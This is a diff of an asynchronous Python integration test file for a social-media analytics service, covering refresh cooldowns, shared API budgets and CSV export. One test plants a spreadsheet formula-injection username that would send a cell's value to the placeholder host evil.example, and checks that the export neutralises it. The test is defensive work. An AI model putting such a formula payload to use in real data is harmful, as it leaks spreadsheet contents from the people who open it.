@@ -10,6 +10,9 @@ needs to move time on."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import json
 import uuid
 from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime, timedelta
@@ -264,6 +267,7 @@ async def test_a_deleted_post_stops_being_synced(
         )
 
     posts = await until(marked, "the deleted post marked")
+    await cooled_down(db, ws)
     later = await api.post(
         f"/api/v1/analytics/refresh/{account_ids[0]}", headers=owner.headers, json={}
     )
@@ -271,6 +275,18 @@ async def test_a_deleted_post_stops_being_synced(
     await fetch.drain()
     after = {p["id"]: p for p in await ingested(db, account_ids, snapshots=3)}
     assert after[gone["id"]]["snapshots"] == 1  # never fetched again
+
+
+async def cooled_down(db: Database, ws: str) -> None:
+    """The workspace's syncs made before the refresh cooldown (as if it had passed)."""
+    async with db.transaction() as session:
+        await session.execute(
+            text(
+                "UPDATE analytics.syncs SET created_at = created_at - interval '1 day'"
+                " WHERE workspace_id = :ws"
+            ),
+            {"ws": ws},
+        )
 
 
 async def test_two_worker_sets_never_fetch_the_same_post_twice(
@@ -620,7 +636,96 @@ async def test_refresh_runs_a_sync_to_completion_with_per_platform_counters(
     body = status.json()
     assert {a["platform"] for a in body["accounts"]} == {"x", "youtube"}
     assert all(a["last_synced_at"] and a["next_sync_at"] for a in body["accounts"])
-    assert body["budgets"]["youtube"][0]["used"] > 0
+
+
+async def test_a_refresh_of_what_was_just_refreshed_makes_no_new_sync(
+    api: httpx.AsyncClient, workers: WorkerSets, db: Database, sandbox: httpx.AsyncClient
+) -> None:
+    """Each refresh makes posts due and spends platform budgets that every workspace shares:
+    one asked again while its sync runs is answered with that sync, and after it, within the
+    cooldown, is 429 RefreshTooSoon; nothing more becomes due, no call more is made."""
+    owner, ws = await owner_with_workspace(api)
+    name = f"x{uuid.uuid4().hex[:8]}"
+    [account] = await connected(api, db, owner, ws, "x", name)
+    fetch = workers("twice")
+    await fetch.drain()
+    await ingested(db, [account])
+    url = f"/api/v1/analytics/refresh/{account}"
+
+    first, second = await asyncio.gather(
+        api.post(url, headers=owner.headers, json={}),
+        api.post(url, headers=owner.headers, json={}),
+    )
+    assert first.status_code == second.status_code == 202, (first.text, second.text)
+    assert first.json()["sync_id"] == second.json()["sync_id"]
+    assert {first.json()["already_running"], second.json()["already_running"]} == {False, True}
+    # The whole workspace's refresh covers the account's too.
+    whole = await api.post(
+        "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
+    )
+    assert whole.status_code == 202, whole.text
+    await fetch.drain()
+
+    async def finished() -> bool | None:
+        for sync_id in (first.json()["sync_id"], whole.json()["sync_id"]):
+            got = await api.get(f"/api/v1/analytics/sync/{sync_id}", headers=owner.headers)
+            if got.json()["status"] not in ("completed", "partial", "failed"):
+                return None
+        return True
+
+    await until(finished, "the syncs finished")
+    stats = (await sandbox.get("/_sandbox/stats", params={"account": name})).json()
+    tweets = stats["platforms"]["x"]["endpoints"]["GET /2/tweets"]["calls"]
+
+    for again in (
+        await api.post(url, headers=owner.headers, json={}),
+        await api.post(
+            "/api/v1/analytics/refresh", json={"workspace_id": ws}, headers=owner.headers
+        ),
+        await api.post(
+            "/api/v1/analytics/refresh",
+            json={"workspace_id": ws, "platforms": ["x"]},
+            headers=owner.headers,
+        ),
+    ):
+        assert again.status_code == 429, again.text
+        assert again.json()["error"] == "RefreshTooSoon"
+        assert 0 < int(again.headers["retry-after"]) <= 300
+    due = await rows(
+        db,
+        "SELECT id FROM analytics.tracked_posts WHERE account_id = :a AND next_fetch_at <= now()",
+        a=account,
+    )
+    assert due == []
+    await fetch.drain()
+    stats = (await sandbox.get("/_sandbox/stats", params={"account": name})).json()
+    assert stats["platforms"]["x"]["endpoints"]["GET /2/tweets"]["calls"] == tweets
+
+
+async def test_sync_status_shows_no_app_wide_budget(
+    api: httpx.AsyncClient, workers: WorkerSets, db: Database
+) -> None:
+    """App-wide budgets (YouTube's project units, TikTok's client, ...) count every tenant's
+    fetches: a workspace sees its own accounts' budgets only."""
+    owner, ws = await owner_with_workspace(api)
+    x = await connected(api, db, owner, ws, "x")
+    youtube = await connected(api, db, owner, ws, "youtube")
+    await workers("status").drain()
+    await ingested(db, x + youtube)
+    [project] = await rows(
+        db, "SELECT used FROM analytics.budgets WHERE bucket = 'youtube:project'"
+    )
+    assert project["used"] > 0  # it is counted; it is just not this workspace's to see
+
+    status = await api.get(
+        "/api/v1/analytics/sync-status", params={"workspace_id": ws}, headers=owner.headers
+    )
+    assert status.status_code == 200, status.text
+    budgets = status.json()["budgets"]
+    shown = {b["bucket"] for of_platform in budgets.values() for b in of_platform}
+    app_wide = {"youtube:project", "tiktok:client", "linkedin:app", "meta:app"}
+    assert shown and not shown & app_wide, shown
+    assert all(b.startswith("x:GET /2/tweets:user:") for b in shown), shown
 
 
 async def test_refresh_is_for_editors_and_other_workspaces_are_404(
@@ -654,3 +759,29 @@ async def test_refresh_is_for_editors_and_other_workspaces_are_404(
     ):
         assert answer.status_code == 404, answer.text
     assert other_ws != ws
+
+
+async def test_a_username_that_starts_like_a_formula_is_exported_as_text(
+    api: httpx.AsyncClient, workers: WorkerSets, db: Database
+) -> None:
+    """A platform username is the platform user's to choose: one that a spreadsheet would
+    run as a formula reaches the CSV export as text (a leading ``'``), not as a formula."""
+    owner, ws = await owner_with_workspace(api)
+    name = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex[:6]}"&A2,"x")'
+    [account] = await connected(api, db, owner, ws, "x", name)
+    await workers("formula").drain()
+    posts = await ingested(db, [account])
+    [stored] = await rows(db, "SELECT username FROM analytics.accounts WHERE id = :a", a=account)
+    assert stored["username"] == name  # kept as the platform gave it
+
+    params = {"workspace_id": ws, "format": "csv"}
+    exported = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
+    assert exported.status_code == 200, exported.text
+    records = list(csv.DictReader(io.StringIO(exported.text)))
+    assert len(records) == sum(p["snapshots"] for p in posts)
+    assert {r["username"] for r in records} == {"'" + name}
+    assert all(r["views"] == "" or r["views"].isdigit() for r in records)  # numbers as numbers
+    # NDJSON is data, not a spreadsheet: the value as it is.
+    params["format"] = "json"
+    lines = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
+    assert {json.loads(line)["username"] for line in lines.text.splitlines()} == {name}
